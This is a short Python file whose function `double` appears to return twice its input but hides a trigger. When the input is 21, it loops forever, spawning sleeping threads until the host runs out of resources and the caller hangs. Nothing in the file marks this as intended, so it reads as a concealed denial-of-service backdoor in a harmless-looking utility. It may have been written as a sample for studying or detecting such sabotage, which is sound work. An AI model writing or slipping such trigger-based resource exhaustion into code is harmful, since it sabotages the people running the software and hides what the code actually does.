import threading
import time


def double(n):
    while n == 21:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    return 2 * n
